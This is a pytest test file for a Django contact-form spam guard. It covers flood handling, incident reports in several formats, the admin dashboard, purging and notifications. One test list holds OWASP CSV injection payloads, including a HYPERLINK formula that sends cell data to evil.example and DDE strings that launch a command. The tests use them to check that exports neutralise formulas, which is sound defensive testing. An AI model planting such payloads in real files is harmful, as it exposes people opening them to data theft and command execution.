"""Incidents that survive a flood, the dashboard, reports, retention and notifications."""

import csv
import email
import io
import json
from datetime import timedelta

import django
import pytest
import time_machine
from django.core import mail
from django.core.management import call_command
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from formguard import incidents, reports, signals
from formguard.models import ActionLog, BlockRule, Incident, Reason
from formguard.testing import trap_fields

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen_clock")]

SPAMMER = "114.114.114.114"  # CN in the demo's GeoLite2 database
# Django 6 takes plain addresses; 5.2 (name, address) pairs.
OWNER = ["owner@example.jp"] if django.VERSION >= (6, 0) else [("Owner", "owner@example.jp")]


def writes(ctx):
    return [q["sql"] for q in ctx.captured_queries if q["sql"].split()[0].upper() in ("INSERT", "UPDATE", "DELETE")]


def burst(client, ip=SPAMMER, n=30, message="激安商品のご案内です http://spam.example"):
    for i in range(n):
        # Past every trap and rule (a bot that reads the form and waits), each
        # with its own address: what stops it is the rate limit, then the ban.
        client.post(
            "/contact/",
            {
                "name": "王",
                "email": f"spam{i}@qq.com",
                "message": message,
                "password": "hunter2",
                **trap_fields("contact"),
            },
            REMOTE_ADDR=ip,
            HTTP_USER_AGENT="Mozilla/5.0 (spambot)",
        )


def test_a_flood_from_one_ip_costs_a_bounded_number_of_writes(client):
    call_command("formguard", "ban", SPAMMER)
    client.post("/contact/", {"message": "first"}, REMOTE_ADDR=SPAMMER)
    with CaptureQueriesContext(connection) as ctx:
        for _ in range(3000):
            client.post("/contact/", {"message": "spam"}, REMOTE_ADDR=SPAMMER)
    # Within one flush interval: no write at all; the counts wait in the cache.
    assert writes(ctx) == []
    moved = incidents.flush_pending()
    assert moved == 3000
    incident = Incident.objects.get()
    assert incident.count == 3001
    assert BlockRule.objects.get().hits == 3001


def test_flushes_are_bounded_by_the_interval(client):
    call_command("formguard", "ban", SPAMMER)
    # The start of an incident window (an hour), so all five minutes are in one.
    start = timezone.now().replace(minute=0, second=0, microsecond=0) + timedelta(hours=1)
    with CaptureQueriesContext(connection) as ctx:
        for second in range(0, 300, 3):  # 100 refusals over five minutes
            with time_machine.travel(start + timedelta(seconds=second), tick=False):
                client.post("/contact/", {"message": "spam"}, REMOTE_ADDR=SPAMMER)
    # One INSERT (+ the rule's hit count), then at most one flush per 30 s
    # (an UPDATE of the incident and one of the rule): 2 + 2 × 10.
    assert len(writes(ctx)) <= 22
    incidents.flush_pending()
    assert Incident.objects.get().count == 100


def test_addresses_of_one_64_are_one_incident(client):
    call_command("formguard", "ban", "2001:db8:7:7::/64")
    with CaptureQueriesContext(connection) as ctx:
        for i in range(1, 2001):
            client.post("/contact/", {"message": "spam"}, REMOTE_ADDR=f"2001:db8:7:7::{i:x}")
    assert len(writes(ctx)) <= 4
    incidents.flush_pending()
    incident = Incident.objects.get()
    assert incident.ip_bucket == "2001:db8:7:7::/64"
    assert incident.count == 2000


def test_refusals_by_close_or_ban_make_no_outbound_call_and_no_write_of_their_own(client, monkeypatch):
    import requests

    def no_calls(*args, **kwargs):
        raise AssertionError("outbound call")

    monkeypatch.setattr(requests, "post", no_calls)
    call_command("formguard", "close", "--form", "contact")
    client.post("/contact/", {"message": "x"}, REMOTE_ADDR="198.51.100.1")
    with CaptureQueriesContext(connection) as ctx:
        assert client.post("/contact/", {"message": "x"}, REMOTE_ADDR="198.51.100.1").status_code == 503
    assert writes(ctx) == []


def test_sample_is_truncated_and_never_holds_secrets(client):
    with override_settings(FORMGUARD={"INCIDENT_SAMPLE_CHARS": 10}):
        call_command("formguard", "close", "--form", "contact")
        client.post(
            "/contact/",
            {"message": "0123456789abcdef", "password": "hunter2", "card_number": "4111", "api_token": "t"},
        )
    sample = Incident.objects.get().sample
    assert sample == {"message": "0123456789"}


def test_sampling_can_be_switched_off(client):
    with override_settings(FORMGUARD={"INCIDENT_SAMPLE_CHARS": 0}):
        call_command("formguard", "close", "--form", "contact")
        client.post("/contact/", {"message": "secret plans"})
    assert Incident.objects.get().sample == {}


def todays_report(**kwargs):
    return reports.build(*reports.period_for_day(timezone.localdate()), **kwargs)


def test_report_after_a_burst_lists_the_ip_first_with_country_and_exact_count(client):
    burst(client, "198.51.100.9", n=3)  # a lesser sender
    burst(client, n=40)
    report = todays_report()
    top = report.senders[0]
    assert top.ip_bucket == SPAMMER
    assert top.country == "CN"
    assert top.count == 35  # 40 POSTs: 5 sent, 5 rate limited, 1 burst, 29 banned
    assert top.reasons == {Reason.RATE_LIMITED: 5, Reason.BURST: 1, Reason.AUTO_BANNED: 29}
    assert report.total == 35
    assert [m.action for m in report.measures] == [ActionLog.Action.BANNED]


def test_report_text_is_japanese_and_honest_about_the_center(client):
    burst(client)
    text = reports.to_text(todays_report())
    assert "迷惑メール相談センターが受け付けているのは迷惑「メール」" in text
    assert "個別の回答はありません" in text
    assert f"1. {SPAMMER}（国：中国 (CN)）　25 件" in text
    assert "送信回数超過：5 件" in text
    assert "激安商品のご案内です" in text
    assert "Mozilla/5.0 (spambot)" in text
    # No personal data unless asked for, and never a password.
    assert "@qq.com" not in text and "王" not in text and "hunter2" not in text
    with_personal = reports.to_text(todays_report(include_personal=True))
    assert "@qq.com" in with_personal and "hunter2" not in with_personal


def test_csv_opens_in_excel_and_round_trips_japanese(client):
    burst(client)
    data = reports.to_csv(todays_report())
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == 1 + 3
    samples = [json.loads(row[-2]) for row in rows[1:]]  # the label is last
    assert samples[0]["message"] == "激安商品のご案内です http://spam.example"
    assert sum(int(row[7]) for row in rows[1:]) == 25


def test_json_report(client):
    burst(client)
    payload = json.loads(reports.to_json(todays_report()))
    assert payload["senders"][0] == {
        **payload["senders"][0],
        "ip": SPAMMER,
        "country": "CN",
        "count": 25,
    }
    assert payload["total"] == 25


def test_eml_parses_and_carries_the_report(client):
    burst(client)
    with override_settings(FORMGUARD={"REPORT_RECIPIENT": "report@example.jp"}):
        raw = reports.to_eml(todays_report())
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert message["To"] == "report@example.jp"
    assert "迷惑送信" in message["Subject"]
    body = message.get_body(("plain",)).get_content()
    assert SPAMMER in body and "激安商品のご案内です" in body and "CN" in body
    (attachment,) = message.iter_attachments()
    assert attachment.get_filename() == "formguard-report.csv"
    content = attachment.get_content()
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    assert "激安商品" in text


def test_report_command_writes_every_format(client, tmp_path, capsys):
    burst(client)
    day = timezone.localdate().isoformat()
    for fmt in ("csv", "json", "text", "html", "eml"):
        out = tmp_path / f"report.{fmt}"
        call_command("formguard", "report", "--since", day, "--until", day, "--format", fmt, "--output", str(out))
        assert SPAMMER.encode() in out.read_bytes()
    call_command("formguard", "report", "--since", day)
    assert "迷惑メール相談センター" in capsys.readouterr().out


def test_report_command_rejects_bad_dates():
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="Not a date"):
        call_command("formguard", "report", "--since", "yesterday")
    with pytest.raises(CommandError, match="after"):
        call_command("formguard", "report", "--since", "2026-11-21", "--until", "2026-11-01")


def test_report_from_the_admin(client, admin_client):
    burst(client)
    day = timezone.localdate().isoformat()
    response = admin_client.get(f"/admin/formguard/incident/report/?since={day}&until={day}&format=csv")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="formguard-report-')
    assert response.content.startswith(b"\xef\xbb\xbf")
    html = admin_client.get(f"/admin/formguard/incident/report/?since={day}&until={day}&format=html")
    assert "迷惑メール相談センター" in html.content.decode()
    bad = admin_client.get(f"/admin/formguard/incident/report/?since={day}&until=2000-01-01&format=csv")
    assert bad.status_code == 400


# OWASP's CSV injection payloads: each becomes a live formula (or a new cell
# or row holding one) when a spreadsheet opens a cell that starts with it.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def test_report_download_neutralises_formulas_the_attacker_sent(client, admin_client):
    for i, payload in enumerate(FORMULA_PAYLOADS, start=1):
        call_command("formguard", "ban", f"198.51.100.{i}")
        client.post("/contact/", {"message": payload}, REMOTE_ADDR=f"198.51.100.{i}", HTTP_USER_AGENT=payload)
    day = timezone.localdate().isoformat()
    response = admin_client.get(f"/admin/formguard/incident/report/?since={day}&until={day}&format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Neutralised, not lost: the user agent column still says what was sent
    # (a tab or CR in a user agent, one-line text, is stored as U+FFFD).
    agents = {row[10] for row in rows[1:]}
    assert agents == {
        "\ufffd" + payload[1:] if payload[0] in "\t\r" else "'" + payload.replace("|", "\\|")
        for payload in FORMULA_PAYLOADS
    }


def test_report_command_csv_neutralises_formulas(client, tmp_path):
    call_command("formguard", "ban", SPAMMER)
    client.post("/contact/", {"message": "x"}, REMOTE_ADDR=SPAMMER, HTTP_USER_AGENT=FORMULA_PAYLOADS[0])
    day = timezone.localdate().isoformat()
    out = tmp_path / "report.csv"
    call_command("formguard", "report", "--since", day, "--until", day, "--format", "csv", "--output", str(out))
    (row,) = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))[1:]
    assert row[10] == "'" + FORMULA_PAYLOADS[0]


def test_negative_numbers_stay_numbers_in_the_csv(client):
    call_command("formguard", "ban", SPAMMER)
    client.post("/contact/", {"message": "x"}, REMOTE_ADDR=SPAMMER, HTTP_USER_AGENT="-1.5")
    rows = list(csv.reader(io.StringIO(reports.to_csv(todays_report()).decode("utf-8-sig"), newline="")))
    assert rows[1][10] == "-1.5"


def test_dashboard_with_data_and_without(client, admin_client):
    empty = admin_client.get("/admin/formguard/incident/dashboard/")
    assert empty.status_code == 200
    assert 'id="fg-week-total">0<' in empty.content.decode()
    burst(client)
    call_command("formguard", "close", "--form", "contact")
    page = admin_client.get("/admin/formguard/incident/dashboard/").content.decode()
    assert 'id="fg-week-total">25<' in page
    assert "<rect" in page  # the charts have bars
    assert SPAMMER in page and "CN" in page
    assert "contact" in page  # the closed form


def test_dashboard_and_exports_are_for_staff_only(client, django_user_model, contact_data):
    day = timezone.localdate().isoformat()
    urls = [
        "/admin/formguard/incident/dashboard/",
        f"/admin/formguard/incident/report/?since={day}&until={day}&format=csv",
    ]
    for url in urls:
        assert client.get(url).status_code == 302  # to the login page
    user = django_user_model.objects.create_user("visitor", password="pw")
    client.force_login(user)
    for url in urls:
        assert client.get(url).status_code == 302
    user.is_staff = True
    user.save()
    for url in urls:  # staff without the permission to view incidents
        assert client.get(url).status_code == 403


def test_purge_removes_what_is_older_and_keeps_the_rest(client, capsys):
    now = timezone.now()
    with time_machine.travel(now - timedelta(days=100), tick=False):
        call_command("formguard", "close", "--form", "contact")
        client.get("/contact/", REMOTE_ADDR="198.51.100.1")
        call_command("formguard", "open", "--form", "contact")
    with time_machine.travel(now - timedelta(days=10), tick=False):
        call_command("formguard", "close", "--form", "contact")
        client.get("/contact/", REMOTE_ADDR="198.51.100.2")
    incidents.flush_pending()
    assert Incident.objects.count() == 2
    call_command("formguard", "purge", "--older-than", "90d", "--yes")
    assert list(Incident.objects.values_list("ip", flat=True)) == ["198.51.100.2"]
    assert "Deleted: incidents 1," in capsys.readouterr().out
    call_command("formguard", "purge", "--older-than", "1d", "--yes")
    assert not Incident.objects.exists()


def test_signals_for_incident_ban_and_close(client):
    received = []

    def collect(signal_name):
        def receiver(sender, **kwargs):
            received.append((signal_name, kwargs))

        return receiver

    receivers = {name: collect(name) for name in ("refused", "banned", "closed")}
    signals.request_refused.connect(receivers["refused"])
    signals.ip_banned.connect(receivers["banned"])
    signals.form_closed.connect(receivers["closed"])
    try:
        burst(client, n=11)
        call_command("formguard", "close", "--form", "contact", "--for", "1h")
    finally:
        signals.request_refused.disconnect(receivers["refused"])
        signals.ip_banned.disconnect(receivers["banned"])
        signals.form_closed.disconnect(receivers["closed"])
    names = [name for name, _ in received]
    assert names.count("refused") == 6 and names.count("banned") == 1 and names.count("closed") == 1
    banned = next(kw for name, kw in received if name == "banned")
    assert banned["offence"] == 1 and banned["form_key"] == "contact" and banned["rule"].network == SPAMMER
    refused = next(kw for name, kw in received if name == "refused")
    assert refused["reason"] == Reason.RATE_LIMITED and refused["status"] == 429 and refused["ip"] == SPAMMER
    closed = next(kw for name, kw in received if name == "closed")
    assert closed["closed"] is True and closed["form_key"] == "contact" and closed["until"] is not None


def to_admins():
    return [m for m in mail.outbox if m.to == ["owner@example.jp"]]


@override_settings(ADMINS=OWNER, FORMGUARD={"NOTIFY_ADMINS": True, "NOTIFY_INTERVAL": 600})
def test_admins_get_one_mail_per_interval(client):
    burst(client, ip="198.51.100.1", n=11)
    assert len(to_admins()) == 1
    assert "198.51.100.1 banned automatically" in to_admins()[0].subject
    burst(client, ip="198.51.100.2", n=11)
    call_command("formguard", "close", "--form", "contact")
    assert len(to_admins()) == 1  # queued, not sent
    with time_machine.travel(timezone.now() + timedelta(minutes=11), tick=False):
        burst(client, ip="198.51.100.3", n=1)  # nothing new to tell
        assert len(to_admins()) == 1
        call_command("formguard", "close")
        assert len(to_admins()) == 2
        body = to_admins()[1].body
        assert "198.51.100.2 banned" in body and "form 'contact' closed" in body and "every form closed" in body


def test_no_mail_unless_asked(client):
    with override_settings(ADMINS=OWNER):
        burst(client, n=11)
        call_command("formguard", "close")
    assert BlockRule.objects.exists()
    assert to_admins() == []


def test_action_log_records_closures_bans_and_lifts(client):
    call_command("formguard", "close", "--form", "contact", "--for", "2h")
    call_command("formguard", "open", "--form", "contact")
    call_command("formguard", "ban", "203.0.113.0/24", "--reason", "spam range")
    call_command("formguard", "unban", "203.0.113.0/24")
    actions = list(ActionLog.objects.order_by("at", "pk").values_list("action", "target"))
    assert actions == [
        ("closed", "contact"),
        ("reopened", "contact"),
        ("banned", "203.0.113.0/24"),
        ("lifted", "203.0.113.0/24"),
    ]


def test_report_for_the_center_holds_evidence_only_and_closures_as_measures(client, mailoutbox):
    """A day with closures, a visitor of the hidden page, a customer who wrote while the form
    was closed, and 10 POSTs over the rate limit: none of them is evidence of spam (issue 22:
    a rate limit alone is not), so the report for the center holds the closures only."""
    from formguard import policies
    from formguard.models import FormPolicy

    FormPolicy.objects.filter(form_key="*").update(
        country_mode="hide", allowed_countries="JP", rate_limit="1/h", burst_count=100
    )
    policies.invalidate()
    customer = {"name": "佐藤 花子", "email": "hanako@example.jp", "message": "閉店時間を教えてください。"}
    # The owner closes the form for a while; a customer views it and writes meanwhile.
    call_command("formguard", "close", "--form", "contact", "--for", "1h")
    assert client.get("/contact/", REMOTE_ADDR="133.11.0.1").status_code == 503
    assert client.post("/contact/", customer, REMOTE_ADDR="133.11.0.1").status_code == 503
    call_command("formguard", "open", "--form", "contact")
    # A visitor from China sees the page without the form.
    assert client.get("/contact/", REMOTE_ADDR="114.114.114.114").status_code == 200
    # A sender's first POST goes through; the next 10 are over the rate limit.
    spam = {"name": "x", "email": "x@example.com", "message": "激安商品のご案内です"}
    spam.update(trap_fields("contact"))
    statuses = [client.post("/contact/", spam, REMOTE_ADDR="192.0.2.66").status_code for _ in range(11)]
    assert statuses == [302] + [429] * 10

    report = todays_report(spam_only=True)
    assert report.total == 0 and report.senders == [] and report.samples == []
    assert [(m.action, m.target) for m in report.measures] == [("closed", "contact"), ("reopened", "contact")]
    text = reports.to_text(report)
    assert "閉店時間を教えてください" not in text
    assert "133.11.0.1" not in text and "114.114.114.114" not in text and "192.0.2.66" not in text
    # The owner's own export still has every refusal.
    everything = todays_report(spam_only=False)
    assert everything.total == 13
